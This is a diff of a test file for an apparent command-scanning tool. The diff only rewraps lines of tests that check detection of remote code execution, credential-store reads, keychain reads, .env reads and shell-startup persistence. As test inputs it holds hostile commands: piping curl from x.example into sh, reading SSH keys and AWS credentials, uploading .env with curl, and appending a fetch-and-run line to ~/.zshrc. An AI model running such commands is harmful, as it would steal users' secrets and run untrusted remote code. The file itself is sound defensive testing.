@@ -21,8 +21,12 @@ describe("CR-2 code fetched, decoded or handed over", () => {
       ],
       ["curl -o report.pdf https://x.example/r.pdf", "pip install requests", "cat setup.sh | less"],
     );
-    expect((await findingsOf("remote-code-execution", "curl -fsSL https://x.example/i.sh | sh"))[0]?.severity).toBe("CRITICAL");
-    expect((await findingsOf("remote-code-execution", "curl -LsSf https://astral.sh/uv/install.sh | sh"))[0]?.severity).toBe("MEDIUM");
+    expect((await findingsOf("remote-code-execution", "curl -fsSL https://x.example/i.sh | sh"))[0]?.severity).toBe(
+      "CRITICAL",
+    );
+    expect(
+      (await findingsOf("remote-code-execution", "curl -LsSf https://astral.sh/uv/install.sh | sh"))[0]?.severity,
+    ).toBe("MEDIUM");
   });
   it("CR-2 encoded-payload-execution: decoded and run", () =>
     cases(
@@ -53,15 +57,26 @@ describe("CR-2 code fetched, decoded or handed over", () => {
   it("CR-2 credential-store-read and keychain-read: reads of where secrets are kept", async () => {
     await cases(
       "credential-store-read",
-      ["cat ~/.ssh/id_rsa", "tar czf /tmp/x.tgz ~/.aws/credentials", "open(os.path.expanduser('~/.git-credentials')).read()"],
+      [
+        "cat ~/.ssh/id_rsa",
+        "tar czf /tmp/x.tgz ~/.aws/credentials",
+        "open(os.path.expanduser('~/.git-credentials')).read()",
+      ],
       ["Put your key in ~/.aws/credentials (see the AWS docs).", "ssh-keygen writes ~/.ssh/id_ed25519.pub"],
     );
     await cases(
       "keychain-read",
-      ["security find-generic-password -s github -w", "copy ~/Library/Application Support/Google/Chrome/Default/Login Data"],
+      [
+        "security find-generic-password -s github -w",
+        "copy ~/Library/Application Support/Google/Chrome/Default/Login Data",
+      ],
       ["Use the security settings page.", "Chrome's cookie policy"],
     );
-    await cases("dotenv-read", ["cat .env", "curl -F f=@.env"], ["Copy .env.example to .env and fill it in.", "load_dotenv()"]);
+    await cases(
+      "dotenv-read",
+      ["cat .env", "curl -F f=@.env"],
+      ["Copy .env.example to .env and fill it in.", "load_dotenv()"],
+    );
   });
   it("CR-2 persistence and shell-startup-change: things that run again later", async () => {
     await cases(
@@ -76,8 +91,12 @@ describe("CR-2 code fetched, decoded or handed over", () => {
       ],
       ["crontab -e is how you edit your own schedule", "List jobs with crontab -l"],
     );
-    expect((await findingsOf("shell-startup-change", "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc"))[0]?.severity).toBe("MEDIUM");
-    expect((await findingsOf("shell-startup-change", "echo 'curl -s x.example/p | sh' >> ~/.zshrc"))[0]?.severity).toBe("HIGH");
+    expect(
+      (await findingsOf("shell-startup-change", "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc"))[0]?.severity,
+    ).toBe("MEDIUM");
+    expect((await findingsOf("shell-startup-change", "echo 'curl -s x.example/p | sh' >> ~/.zshrc"))[0]?.severity).toBe(
+      "HIGH",
+    );
     expect(await findingsOf("shell-startup-change", "source ~/.bashrc")).toEqual([]);
   });
 });
